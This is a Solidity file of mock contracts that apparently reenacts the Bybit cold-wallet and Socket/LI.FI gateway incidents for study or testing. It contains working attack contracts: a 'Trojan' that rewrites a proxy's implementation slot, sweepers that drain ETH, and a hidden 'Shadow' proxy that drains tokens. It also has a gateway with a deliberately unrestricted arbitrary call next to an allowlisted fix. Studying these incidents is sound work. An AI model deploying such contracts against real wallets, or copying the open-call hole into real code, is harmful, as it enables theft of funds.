// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {Address} from "@openzeppelin/contracts/utils/Address.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {Governed__MockForIncident} from "./Base__MockForIncident.sol";

/// @notice Bybit's cold wallet: its owner runs calls, or foreign code on its own storage.
contract ColdWallet__MockForIncident is Governed__MockForIncident {
    receive() external payable {}

    function version() external pure virtual returns (uint256) {
        return 1;
    }

    function execTransaction(address to, bytes calldata data, uint8 operation) external onlyOwner {
        if (operation == 1) Address.functionDelegateCall(to, data);
        else Address.functionCall(to, data);
    }
}

contract ColdWalletNext__MockForIncident is ColdWallet__MockForIncident {
    function version() external pure override returns (uint256) {
        return 2;
    }
}

/// @notice Called `transfer`, and what it writes is the proxy's pointer.
contract Trojan__MockForIncident {
    bytes32 private constant IMPLEMENTATION = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    address private immutable _sweeper;

    constructor(address sweeper) {
        _sweeper = sweeper;
    }

    function transfer(address, uint256) external returns (bool) {
        address sweeper = _sweeper;
        assembly {
            sstore(IMPLEMENTATION, sweeper)
        }
        return true;
    }
}

contract Sweeper__MockForIncident {
    function sweepETH(address payable to) external {
        Address.sendValue(to, address(this).balance);
    }
}

/// @notice It answers as the wallet does, and can be upgraded away from.
contract SweeperCareful__MockForIncident is ColdWallet__MockForIncident {
    function sweepETH(address payable to) external {
        Address.sendValue(to, address(this).balance);
    }
}

/// @notice Between a proxy and its implementation, seen by neither: it forwards what it does not know.
contract Shadow__MockForIncident {
    // keccak256("shadow") by name; any slot of its own would do.
    bytes32 private constant REAL = 0x19d1fbba98ed3e6f5e6b7fa9ec5a4b0ca5dd9ecf8b1e8be29bfbaa6e5c1c8f4d;

    function plant(address real, bytes calldata data) external {
        assembly {
            sstore(REAL, real)
        }
        Address.functionDelegateCall(real, data);
    }

    function drain(address token, address to) external {
        IERC20(token).transfer(to, IERC20(token).balanceOf(address(this)));
    }

    receive() external payable {}

    fallback() external payable {
        assembly {
            calldatacopy(0, 0, calldatasize())
            let isOk := delegatecall(gas(), sload(REAL), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(isOk) {
                revert(0, returndatasize())
            }
            return(0, returndatasize())
        }
    }
}

/// @notice Socket's and LI.FI's gateway: users let it spend their tokens, and it swaps on the way.
contract Gateway__MockForIncident is Governed__MockForIncident {
    function bridge(IERC20 token, uint256 amount) external {
        token.transferFrom(msg.sender, address(this), amount);
    }
}

/// @notice With a swap that calls whatever it is told to.
contract GatewaySwap__MockForIncident is Gateway__MockForIncident {
    function swapAndBridge(address callTarget, bytes calldata callData) external {
        Address.functionCall(callTarget, callData);
    }
}

/// @notice The same, with the calls that it may make.
contract GatewayListed__MockForIncident is Gateway__MockForIncident {
    error TargetUnknown(address target);

    mapping(address target => bool) public isListed;

    function list(address target) external onlyOwner {
        isListed[target] = true;
    }

    function swapAndBridge(address callTarget, bytes calldata callData) external {
        if (!isListed[callTarget]) revert TargetUnknown(callTarget);
        Address.functionCall(callTarget, callData);
    }
}
